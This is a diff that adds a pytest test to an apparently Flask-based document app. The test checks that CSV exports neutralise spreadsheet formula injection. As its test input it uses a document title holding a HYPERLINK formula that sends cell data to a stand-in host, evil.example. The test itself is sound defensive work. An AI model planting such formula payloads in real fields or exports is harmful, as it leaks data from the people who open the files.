@@ -78,3 +78,32 @@ def test_unknown_filters_are_refused_and_known_ones_narrow(client, login, librar
     assert client.get("/insights/pie.csv").status_code == 404
     narrowed = client.get("/insights/types.csv?service_area=send").get_data(as_text=True)
     assert "Scoping" not in narrowed and "Self-assessment,1" in narrowed
+
+
+def test_no_csv_cell_becomes_a_spreadsheet_formula(app, client, login, db, people, make_document):
+    """A document titled as a formula, read by another authority, then every CSV the app serves:
+    no cell starts with what a spreadsheet would run (= + - @, tab, carriage return)."""
+    import csv
+    import io
+
+    title = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
+    document_id = publish(app, db, people, make_document, "# Plan\n\nText.\n", "national", title=title)
+    login("brk_reader")
+    assert client.get(f"/documents/{document_id}").status_code == 200  # a read, counted
+    app.extensions["usage"].flush()
+    served = [client.get(f"/insights/{c}.csv") for c in ("areas-by-region", "types", "years", "most-read")]
+    client.post("/logout")
+    login("kgm_approver")
+    served += [client.get(f"/documents/{document_id}/usage.csv"), client.get("/audit.csv")]
+    client.post("/logout")
+    login("admin")
+    served += [client.get("/insights/growth.csv"), client.get("/audit.csv")]
+    csv_rules = {r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv")}
+    assert csv_rules == {"/insights/<chart>.csv", "/documents/<int:document_id>/usage.csv", "/audit.csv"}
+    most_read = list(csv.reader(io.StringIO(served[3].get_data(as_text=True))))
+    assert most_read[1][0] == "'" + title
+    for response in served:
+        assert response.status_code == 200 and response.mimetype == "text/csv"
+        for row in csv.reader(io.StringIO(response.get_data(as_text=True))):
+            for cell in row:
+                assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
